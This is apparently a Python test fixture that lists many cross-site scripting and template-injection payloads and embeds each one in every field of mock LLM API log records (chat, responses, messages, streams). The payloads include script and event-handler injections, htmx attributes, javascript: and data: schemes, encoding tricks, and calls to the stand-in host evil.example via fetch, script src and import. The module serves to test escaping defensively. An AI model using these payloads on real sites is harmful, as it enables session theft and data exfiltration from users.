"""Texts that run script, or fetch something, wherever a page does not write them as text.

Each payload calls `xss()`, which the test defines, or leads to evil.example; each is one of a kind: a context that it
breaks out of, an element that runs script by itself, an attribute of htmx, an encoding, a scheme. And exchanges that
are all of one text.
"""

# ruff: noqa: E501 - a payload is one piece

import json
from itertools import product
from typing import Any

URL = "//evil.example"

_ELEMENTS = (
    "<script>xss()</script>", "<ScRiPt>xss()</sCrIpT>", "<script src={u}/x.js></script>", "<script>xss()",
    "<script/x>xss()</script>", "<script\n>xss()</script\n>", "<scr<script>ipt>xss()</scr</script>ipt>",
    "<script type=module>xss()</script>", "<script>/*<script>*/xss()</script>", "<<script>xss()//<</script>",
    "<img src=x onerror=xss()>", "<img src={u}/x.png>", "<img/src=x/onerror=xss()>", "<img src='x' onerror='xss()'>",
    '<img src="x" onerror="xss()">', "<img src=x onerror=\"&#120;ss()\">", "<img srcset={u}/x.png>", "<image src=x onerror=xss()>",
    "<img src=x:x onerror=xss() <", "<img \x0bsrc=x onerror=xss()>", "<img src=`x`onerror=xss()>", "<IMG SRC=x ONERROR=xss()>",
    "<svg onload=xss()>", "<svg/onload=xss()>", "<svg><script>xss()</script></svg>", "<svg><script href={u}/x.js /></svg>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s>", "<svg><set onbegin=xss() attributeName=x>",
    "<svg><use href={u}/x.svg#a /></svg>", "<svg><foreignObject><img src=x onerror=xss()></foreignObject></svg>",
    "<svg><a xlink:href=javascript:xss()><text y=20>x</text></a></svg>", "<svg><style><img src=x onerror=xss()></style></svg>",
    "<svg><title><img src=x onerror=xss()></title></svg>", "<svg><desc><img src=x onerror=xss()></desc></svg>",
    "<math><mtext><img src=x onerror=xss()></mtext></math>", "<math href=javascript:xss()>x</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=xss()></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=xss()&gt;\">",
    "<iframe src=javascript:xss()>", "<iframe srcdoc='<script>parent.xss()</script>'>", "<iframe src={u}>", "<iframe onload=xss()>",
    "<object data=javascript:xss()>", "<object data={u}/x.swf>", "<embed src=javascript:xss()>", "<embed src={u}/x.swf>",
    "<body onload=xss()>", "<body onpageshow=xss()>", "<html onmouseover=xss()>", "<frameset onload=xss()>",
    "<video><source onerror=xss()></video>", "<video src=x onerror=xss()>", "<audio src=x onerror=xss()>", "<video poster={u}/x.png>",
    "<input autofocus onfocus=xss()>", "<select autofocus onfocus=xss()>", "<textarea autofocus onfocus=xss()>",
    "<button autofocus onfocus=xss()>x", "<keygen autofocus onfocus=xss()>", "<a autofocus tabindex=1 onfocus=xss()>x</a>",
    "<details open ontoggle=xss()>x</details>", "<marquee onstart=xss()>x</marquee>", "<dialog open onclose=xss()>x</dialog>",
    "<div onpointerenter=xss() style=position:fixed;inset:0>x</div>", "<x onclick=xss() autofocus tabindex=1>x</x>",
    "<div style=animation-name:x onanimationstart=xss()>", "<style>@keyframes x{{}}</style><p style=animation-name:x onanimationend=xss()>",
    "<p contenteditable onblur=xss() autofocus>x", "<form action=javascript:xss()><button autofocus>x", "<isindex action=javascript:xss()>",
    "<form><button formaction=javascript:xss()>x", "<form action={u}><input name=csrf>", "<link rel=stylesheet href={u}/x.css>",
    "<link rel=prefetch href={u}/x>", "<link rel=import href={u}/x.html>", "<meta http-equiv=refresh content='0;url={u}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">", "<base href={u}/>", "<base target=x>",
    "<style>@import '{u}/x.css'</style>", "<style>*{{background:url({u}/x.png)}}</style>", "<p style=background:url({u}/x.png)>x",
    "<template><script>xss()</script></template>", "<noscript><img title='</noscript><img src=x onerror=xss()>'>",
    "<table background={u}/x.png>", "<bgsound src={u}/x>", "<portal src={u}>", "<a href=javascript:xss()>x</a>",
    "<a href=' javascript:xss()'>x</a>", "<a href=java&#9;script:xss()>x</a>", "<a href=data:text/html,<script>xss()</script>>x</a>",
    "<a href=x ping={u}>x</a>", "<area href=javascript:xss()>", "<slot onslotchange=xss()><p>", "<search onclick=xss()>",
    "<custom-x onload=xss()></custom-x>", "<plaintext onmouseover=xss()>", "<xmp><script>xss()</script></xmp><script>xss()</script>",
    "<img src=x onerror=eval('xss()')>", "<img src=x onerror=import('{u}/x.js')>", "<script>fetch('{u}')</script>",
)  # fmt: skip
#: What ends a text that a template might have put there, before the element.
_ENDS = (
    '"', "'", "`", ">", '">', "'>", "`>", '"/>', "-->", "--!>", "]]>", "*/", "\\\"", "\\'", "\n", "\r\n", "\0", "</p>", "</a>", "</pre>",
    "</code>", "</bdi>", "</textarea>", "</title>", "</script>", "</style>", "</select>", "</option>", "</datalist>", "</svg>", "</td></tr></table>",
    "</template>", "</noscript>", "</iframe>", "</xmp>", "<!--", "<![CDATA[", "<?xml ?>", "&quot;>", "%22%3E",
)  # fmt: skip
_ATTRIBUTES = (
    '" onmouseover="xss()', "' onmouseover='xss()", '" autofocus onfocus=xss() x="', "' autofocus onfocus=xss() x='",
    " onfocus=xss() autofocus tabindex=1 ", '"onfocus="xss()"autofocus="', '" style="background:url({u}/x.png)', '" formaction="javascript:xss()',
    '" href="javascript:xss()" x="', '" hx-get="{u}" hx-trigger="load" x="', '" hx-on:load="xss()" x="', '" data-hx-get="{u}" x="',
    "' hx-on::load='xss()' x='", '" hx-on--load="xss()" hx-trigger="load" x="', '" data-copy="x" id="main" x="', '" src={u}/x.js x="',
)  # fmt: skip
_HTMX = (
    "<div hx-get={u} hx-trigger=load>", "<div data-hx-get={u} data-hx-trigger=load>", "<div hx-get=/keys hx-trigger=load hx-target=body>",
    "<div hx-on:load=xss() hx-trigger=load>", "<div hx-on::after:init=xss()>", "<div hx-vals='js:{{x:xss()}}' hx-get=/exchanges hx-trigger=load>",
    "<div hx-trigger='load[xss()]' hx-get=/exchanges>", "<div hx-headers='js:{{x:xss()}}' hx-get=/ hx-trigger=load>", "<div hx-post=/sign-out hx-trigger=load>",
    "<hx-partial hx-target=body><script>xss()</script></hx-partial>", "<script type=application/json hx-ext=x>xss()</script>",
    "<div hx-swap-oob=true id=main>x</div>", "<div hx-config='{{\"mode\":\"cors\"}}' hx-get={u} hx-trigger=load>", "<div hx-live=xss()>",
    "<meta name=htmx-config content='{{\"mode\":\"no-cors\"}}'>", "<div hx-action=javascript:xss() hx-trigger=load>",
)  # fmt: skip
_SCHEMES = (
    "javascript:xss()", "JaVaScRiPt:xss()", " javascript:xss()", "java\tscript:xss()", "java\nscript:xss()", "\x01javascript:xss()",
    "javascript://%0axss()", "javascript&colon;xss()", "vbscript:xss()", "data:text/html,<script>xss()</script>", "view-source:javascript:xss()",
    "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=xss()>", "blob:http://evil.example/x",
    "{u}", "\\\\evil.example", "/\\evil.example", "https:evil.example", "http://evil.example/\"onmouseover=xss()", "https://evil.example/' autofocus onfocus=xss()",
    "http://evil.example/><script>xss()</script>", "javascript:/*--></title></style></textarea></script><svg onload=xss()>",
)  # fmt: skip
_TEMPLATES = (
    "{{{{7*7}}}}", "{{{{xss()}}}}", "{{% include 'layout.html' %}}", "{{{{config.items()}}}}", "{{{{request.application.__globals__}}}}", "${{xss()}}",
    "#{{xss()}}", "<%= xss() %>", "{{{{constructor.constructor('xss()')()}}}}", "{{{{''.__class__.__mro__}}}}", "{{# x #}}</p><script>xss()</script>", "[[${{xss()}}]]",
)  # fmt: skip
_ENCODED = (
    "&lt;script&gt;xss()&lt;/script&gt;", "&#60;script&#62;xss()&#60;/script&#62;", "&#x3c;script>xss()</script>", "&ltscript&gtxss()&lt/script&gt",
    "%3Cscript%3Exss()%3C/script%3E", "%253Cscript%253Exss()%253C/script%253E", "+ADw-script+AD4-xss()+ADw-/script+AD4-", "\\u003cscript\\u003exss()\\u003c/script\\u003e",
    "\\x3cscript\\x3exss()", "\uff1cscript\uff1exss()\uff1c/script\uff1e", "\u02c2script\u02c3xss()", "\u202e>tpircs/<)(ssx>tpircs<", "\u2066<script>xss()</script>\u2069",
    "<scr\u200bipt>xss()</scr\u200bipt>", "<\u200dscript>xss()</script>", "\ufeff<script>xss()</script>", "<img src=x onerror\u00a0=xss()>", "<script\u2028>xss()</script>",
    "<\x00script>xss()</script>", "<img src=x o\x00nerror=xss()>", "\u0130<script>xss()</script>", "\u212a<ſcript>xss()</ſcript>", "a\u0300" * 20 + "<script>xss()</script>",
)  # fmt: skip
_MARKDOWN = (
    "![x]({u}/x.png)", "![x](javascript:xss())", "[x](javascript:xss())", "[x]: javascript:xss()\n[x]", "<javascript:xss()>", "`<script>xss()</script>`",
    "```html\n<script>xss()</script>\n```", "[x](data:text/html,<script>xss()</script>)", "![\"onerror=\"xss()](x)", "<!-- --!><script>xss()</script> -->",
)  # fmt: skip
_JSON = (
    '"}}</script><script>xss()</script>', '\\"}};xss();//', "'-xss()-'", '";xss();//', "</script/><script>xss()</script>", '{{"__proto__":{{"xss":1}}}}',
    '\u2028";xss();//', "{{\"a\": \"<\\/script><script>xss()<\\/script>\"}}", "1;xss()", "event: x\ndata: <script>xss()</script>\n\n",
)  # fmt: skip
_LONG = (
    "<b>" * 300 + "<script>xss()</script>",
    "<div " * 100 + "onclick=xss()>",
    "<a href='" * 40,
    '"' * 250,
    "<" * 250,
)


def _all() -> list[str]:
    texts = (*_ELEMENTS, *_ATTRIBUTES, *_HTMX, *_SCHEMES, *_TEMPLATES, *_ENCODED, *_MARKDOWN, *_JSON)
    written = [text.format(u=URL) for text in texts]
    broken_out = [end + element for end, element in product(_ENDS, ("<img src=x onerror=xss()>",))]
    return [*written, *broken_out, *_LONG]


PAYLOADS = _all()
#: As long and as many lines as payloads may have, with a link that may be followed: what pages do with them is no attack.
HARMLESS = (
    "plain",
    "two\nlines",
    "https://example.com/a",
    "word " * 300,
    "\u202eturned",
    "&amp; && 1 < 2 \"quoted\" 'so'",
)


def chat(x: str) -> dict[str, Any]:
    """A Chat Completions exchange that is all of one text."""
    call = {"id": x, "type": "function", "function": {"name": x, "arguments": json.dumps({x: x})}}
    messages = [
        {"role": "system", "content": x},
        {"role": x, "name": x, "content": x},
        {"role": "user", "name": x, "content": [
            {"type": "text", "text": x}, {"type": "image_url", "image_url": {"url": x}}, {"type": x, x: x},
            {"type": "input_audio", "input_audio": {"data": x, "format": x}}, {"type": "file", "file": {"filename": x, "file_id": x}},
        ]},
        {"role": "assistant", "content": None, "refusal": x, "tool_calls": [call, {**call, "id": x + "2", "function": {"name": x, "arguments": x}}]},
        {"role": "tool", "tool_call_id": x, "content": x},
        {"role": "tool", "tool_call_id": x + "3", "content": [{"type": "text", "text": x}]},
    ]  # fmt: skip
    annotations = [{"type": "url_citation", "url_citation": {"title": x, "url": x}}]
    answer = {
        "role": "assistant",
        "content": x,
        "reasoning_content": x,
        "tool_calls": [call],
        "annotations": annotations,
    }
    return {
        "path": "/v1/chat/completions",
        "request_body": {"model": x, "messages": messages, "tools": [{"type": "function", "function": {"name": x}}], x: x},
        "response_body": {
            "id": x, "model": x, "choices": [{"message": answer, "finish_reason": x}], "citations": [x],
            "search_results": [{"title": x, "url": x}], "usage": {"prompt_tokens": 1, "completion_tokens": 1},
        },
    }  # fmt: skip


def responses(x: str) -> dict[str, Any]:
    """A Responses exchange that is all of one text."""
    text = {"type": "output_text", "text": x, "annotations": [{"type": "url_citation", "title": x, "url": x}]}
    output = [
        {"type": "reasoning", "id": x, "summary": [{"type": "summary_text", "text": x}], "content": [{"type": "reasoning_text", "text": x}]},
        {"type": "message", "id": x, "role": "assistant", "status": x, "content": [text, {"type": "refusal", "refusal": x}, {"type": x, x: x}]},
        {"type": "function_call", "id": x, "call_id": x, "name": x, "arguments": x},
        {"type": "web_search_call", "id": x, "status": x, "action": {"type": "search", "query": x, "url": x}},
        {"type": "file_search_call", "id": x, "queries": [x], "results": [{"filename": x, "text": x}]},
        {"type": "code_interpreter_call", "id": x, "code": x, "outputs": [{"type": "logs", "logs": x}, {"type": "image", "url": x}]},
        {"type": "mcp_call", "id": x, "name": x, "server_label": x, "arguments": x, "output": x, "error": x},
        {"type": "image_generation_call", "id": x, "result": x},
        {"type": x, x: x},
    ]  # fmt: skip
    sent = [
        {"role": x, "content": [{"type": "input_text", "text": x}, {"type": "input_image", "image_url": x},
                                {"type": "input_file", "filename": x, "file_url": x}]},
        {"type": "function_call_output", "call_id": x, "output": x},
        {"type": "custom_tool_call", "call_id": x + "2", "name": x, "input": x},
    ]  # fmt: skip
    return {
        "path": "/v1/responses",
        "request_body": {"model": x, "instructions": x, "input": sent, "metadata": {x: x}},
        "response_body": {"id": x, "model": x, "status": x, "incomplete_details": {"reason": x}, "output": output},
    }


def messages(x: str) -> dict[str, Any]:
    """A Messages exchange that is all of one text."""
    cited = [{"type": "web_search_result_location", "url": x, "title": x, "cited_text": x}]
    content = [
        {"type": "thinking", "thinking": x, "signature": x}, {"type": "redacted_thinking", "data": x},
        {"type": "text", "text": x, "citations": cited}, {"type": "tool_use", "id": x, "name": x, "input": {x: x}},
        {"type": "server_tool_use", "id": x, "name": x, "input": {"query": x}},
        {"type": "web_search_tool_result", "tool_use_id": x, "content": [{"type": "web_search_result", "url": x, "title": x}]},
        {"type": x, x: x},
    ]  # fmt: skip
    sent = [
        {"role": "user", "content": [
            {"type": "text", "text": x}, {"type": "image", "source": {"type": "url", "url": x}},
            {"type": "document", "title": x, "context": x, "source": {"type": "text", "data": x, "media_type": x}},
        ]},
        {"role": "assistant", "content": [{"type": "tool_use", "id": x, "name": x, "input": x}]},
        {"role": "user", "content": [{"type": "tool_result", "tool_use_id": x, "is_error": True, "content": [{"type": "text", "text": x}]}]},
        {"role": x, "content": x},
    ]  # fmt: skip
    return {
        "path": "/v1/messages",
        "request_body": {"model": x, "system": [{"type": "text", "text": x}], "messages": sent, "tools": [{"name": x}]},
        "response_body": {
            "id": x,
            "model": x,
            "role": "assistant",
            "content": content,
            "stop_reason": x,
            "stop_sequence": x,
        },
    }


def plain(x: str) -> dict[str, Any]:
    """No shape: the client's own fields, a path that is a text, and a provider's error."""
    error = {"error": {"type": x, "code": x, "message": x, "param": x}}
    return {
        "path": x[:4096],
        "prompt": x,
        "completion": x,
        "request_body": x,
        "response_body": error,
        "status_code": 500,
    }


def stream(x: str) -> dict[str, Any]:
    """A stream, as text."""
    event = json.dumps({"model": x, "choices": [{"delta": {"content": x, "refusal": x}, "finish_reason": x}]})
    return {
        "path": "/v1/chat/completions",
        "request_body": x,
        "response_body": f"data: {event}\n\ndata: {x}\n\nevent: {x}\n\n",
    }


KINDS = (chat, responses, messages, plain, stream)


def whole(kind: Any, request_id: str, x: str) -> dict[str, Any]:
    """An exchange of which every field is the text, as far as the field's length goes."""
    found: dict[str, Any] = {
        "request_id": request_id,
        "status_code": 200,
        "provider": x[:64],
        "method": x[:16],
        "model": x[:512],
        "metadata": {x: x, "more": [x, {x: x}]},
        "tags": {x: x[:256], "user_id": x[:256], "session_id": x[:256]},
        "request_headers": {x: x},
        "response_headers": {x: [x]},
        x: x,
    }
    return found | kind(x)
